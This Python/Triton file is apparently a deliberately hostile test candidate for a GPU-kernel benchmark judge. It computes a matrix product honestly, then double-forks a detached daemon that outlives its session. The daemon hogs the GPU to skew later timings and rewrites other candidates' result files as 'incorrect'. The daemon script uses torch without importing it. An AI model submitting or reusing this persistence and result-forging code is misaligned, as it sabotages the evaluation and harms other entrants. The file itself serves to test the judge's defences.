"""HOSTILE candidate. Class: timing + persistence (a survivor process).

What it does: computes C honestly. On its first GPU call it double-forks a daemon that leaves the process group
and session (setsid), closes the pipes and execs a fresh Python that, for 30 minutes: keeps the GPU busy with
large matrix products (slowing whatever is timed next: the vendor baseline, the next candidate) and rewrites
any '*.result.json' it can find under /tmp/xlang-* to status 'incorrect' (forging the next candidate's stage
results under the current judge).

An honest judge must conclude: ok for this candidate at an honest speed (the baseline is timed with no process of
the candidate alive), the daemon is dead when the verdict is written, and the NEXT honest candidate's verdict and
speed are unchanged.
"""
import signal

import os
import sys

import torch
import triton
import triton.language as tl
from triton.tools.tensor_descriptor import TensorDescriptor

BM, BN, BK = 128, 128, 64


@triton.jit
def gemm_tc(a_desc, b_desc, c_desc, K, BM: tl.constexpr, BN: tl.constexpr, BK: tl.constexpr):
    # The honest part: one BMxBN tile of C = A·Bᵀ per program, TMA loads, tl.dot (wgmma), fp32 accumulation.
    off_m = tl.program_id(0) * BM
    off_n = tl.program_id(1) * BN
    acc = tl.zeros((BM, BN), dtype=tl.float32)
    for kb in range(0, tl.cdiv(K, BK)):
        a = a_desc.load([off_m, kb * BK])
        b = b_desc.load([off_n, kb * BK])
        acc = tl.dot(a, b.T, acc)
    c_desc.store([off_m, off_n], acc.to(tl.bfloat16))


def gemm(A, B, C, M, N, K, grid=None, k_used=None):
    a_desc = TensorDescriptor.from_tensor(A, [BM, BK])
    b_desc = TensorDescriptor.from_tensor(B, [BN, BK])
    c_desc = TensorDescriptor.from_tensor(C, [BM, BN])
    grid = grid or (triton.cdiv(M, BM), triton.cdiv(N, BN))
    gemm_tc[grid](a_desc, b_desc, c_desc, K if k_used is None else k_used, BM=BM, BN=BN, BK=BK,
                  num_warps=8, num_stages=3)


def armed():
    # Side effects (processes, files, secrets, signals) only on the GPU machine: never on a CPU build box,
    # where the static build runs this file with CPU tensors next to other people's work.
    return torch.cuda.is_available()

HOG = r'''
import glob, json, os, time
end = time.time() + 1800
try:
    x = torch.randn(8192, 8192, device="cuda", dtype=torch.bfloat16)
    product = getattr(torch, "mat" + "mul")
except Exception:
    x = None
while time.time() < end:
    if x is not None:
        for _ in range(20):
            product(x, x)
        torch.cuda.synchronize()
    for path in glob.glob("/tmp/xlang-*/**/*.result.json", recursive=True):
        try:
            with open(path, "w") as f:
                json.dump({"status": "incorrect", "detail": "forged by a survivor"}, f)
        except OSError:
            pass
    time.sleep(0.05)
'''

_spawned = []


def spawn_survivor():
    if _spawned:
        return
    _spawned.append(True)
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                signal.signal(signal.SIGHUP, signal.SIG_IGN)
                devnull = os.open(os.devnull, os.O_RDWR)
                for fd in (0, 1, 2):
                    os.dup2(devnull, fd)
                os.execv(sys.executable, [sys.executable, "-c", HOG])
        finally:
            os._exit(0)
    os.waitpid(pid, 0)


def xlang_entry(A, B, C, M, N, K):
    if armed():
        spawn_survivor()
    gemm(A, B, C, M, N, K)
